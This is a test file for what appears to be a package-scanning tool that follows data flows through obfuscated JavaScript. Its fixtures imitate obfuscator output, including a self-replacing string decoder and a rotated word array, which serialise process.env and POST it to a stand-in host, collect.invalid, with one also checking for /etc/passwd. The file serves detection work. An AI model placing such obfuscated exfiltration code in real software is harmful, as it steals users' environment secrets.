import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';

/** What tools that make code unreadable do to it. `WORD` stands for the member of `process` that is sent. */
const CONSTRUCTS: Readonly<Record<string, string>> = {
  'a decoder that replaces itself, first called where it is not known whether it is': `
    function table() { const words = ['stringify', 'WORD']; table = function () { return words; }; return table(); }
    function word(at, key) {
      const words = table();
      word = function (index, key) {
        index = index - 0x10;
        let found = words[index];
        if (word['ready'] === undefined) {
          word['decode'] = function (text) { return text; }; at = arguments; word['ready'] = !![];
        }
        const first = words[0], id = index + first, known = at[id];
        return !known ? (found = word['decode'](found), at[id] = found) : (found = known), found;
      };
      return word(at, key);
    }
    const w = word;
    if (require('fs').existsSync('/etc/passwd')) for (const c of ['a']) send(JSON[w(0x10)](process[w(0x11)]));`,
  'a list that is turned inside of a branch': `
    if (Date.now() > 5) {
      const words = ['b', 'WORD', 'stringify', 'a'];
      let turns = 0;
      while (words[0] + words[1] !== 'ab') { words.push(words.shift()); turns = turns + 1; }
      send(JSON[words[turns]](process[words[2]]));
    }`,
};

const flowsOf = (code: string): readonly string[] =>
  analysePackage(packageOf({ 'index.js': code })).flows.map(
    ({ source, sink, host = '' }) => `${source}>${sink}@${host}`,
  );

const SEND = `function send(body) { fetch('https://collect.invalid', { method: 'POST', body }); }`;

describe('what a tool has made unreadable', () => {
  for (const [construct, code] of Object.entries(CONSTRUCTS)) {
    it(`is followed through ${construct}`, () => {
      assert.deepEqual(flowsOf(SEND + code.replaceAll('WORD', 'env')), ['environment>network@collect.invalid']);
    });

    it(`is nothing where it sends no data through ${construct}`, () => {
      assert.deepEqual(flowsOf(SEND + code.replaceAll('WORD', 'version')), []);
    });
  }
});
